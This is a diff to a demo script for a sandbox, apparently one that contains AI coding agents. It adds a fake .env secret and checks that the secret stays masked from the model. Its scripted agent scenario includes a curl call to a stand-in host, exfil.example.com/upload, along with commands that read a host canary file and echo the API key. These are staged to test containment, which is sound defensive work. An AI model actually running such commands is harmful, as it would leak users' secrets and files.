@@ -25,6 +25,9 @@ if [ ! -d "$repo/.git" ]; then
   git -C "$repo" -c user.name=demo -c user.email=demo@example.invalid add -A
   git -C "$repo" -c user.name=demo -c user.email=demo@example.invalid commit -qm "initial commit"
 fi
+# A developer's local secrets, ignored by git: masked (workspace.masked), empty inside.
+printf '.env\n' > "$repo/.git/info/exclude"
+printf 'DATABASE_PASSWORD=demo-db-password-do-not-leak\n' > "$repo/.env"
 [ "$(id -u)" = 0 ] && chown -R 1000:1000 "$repo"
 rm -f "$repo/NOTES.md"
 echo "host-only secret: do not leak" > "$canary"
@@ -47,6 +50,7 @@ cat > "$provider/scenario.yaml" <<SCENARIO
 steps:
   - write: { path: NOTES.md, content: "Written by Claude Code inside the Airlock sandbox.\n" }
   - shell: { command: "cat $canary; echo canary-exit=\$?" }
+  - shell: { command: "echo .env holds \$(wc -c < .env) bytes" }
   - shell: { command: "curl -s -o /dev/null -w 'exfil.example.com answered %{http_connect}' https://exfil.example.com/upload; echo" }
   - shell: { command: "echo the key I hold: \$ANTHROPIC_API_KEY" }
   - say: "Done: NOTES.md is written. The host file was not readable, and exfil.example.com was refused by policy."
@@ -99,6 +103,7 @@ const bodies = JSON.stringify(reqs.map((r) => r.body));
 console.log(`model requests: ${reqs.length}; each carried the real key: ${reqs.every((r) => r.headers['x-api-key'] === key)}`);
 console.log(`the agent's view of the key: ${(bodies.match(/the key I hold: ([A-Za-z0-9_-]+)/) || [])[1]} (a placeholder; the real key never entered the sandbox: ${!bodies.includes(key)})`);
 console.log(`reading the host canary: ${(bodies.match(/canary-exit=\d+/) || ['?'])[0]} (not visible inside)`);
+console.log(`the repository's .env inside the sandbox: ${(bodies.match(/\.env holds \d+ bytes/) || ['?'])[0]} (masked: the password on the host never reached the model: ${!bodies.includes('demo-db-password')})`);
 console.log(`exfil.example.com: ${(bodies.match(/exfil.example.com answered \d+/) || ['?'])[0]} (denied by the proxy)`);
 CHECK
 echo "leftover containers: $(docker ps -aq --filter label=dev.airlock.session | wc -l)"
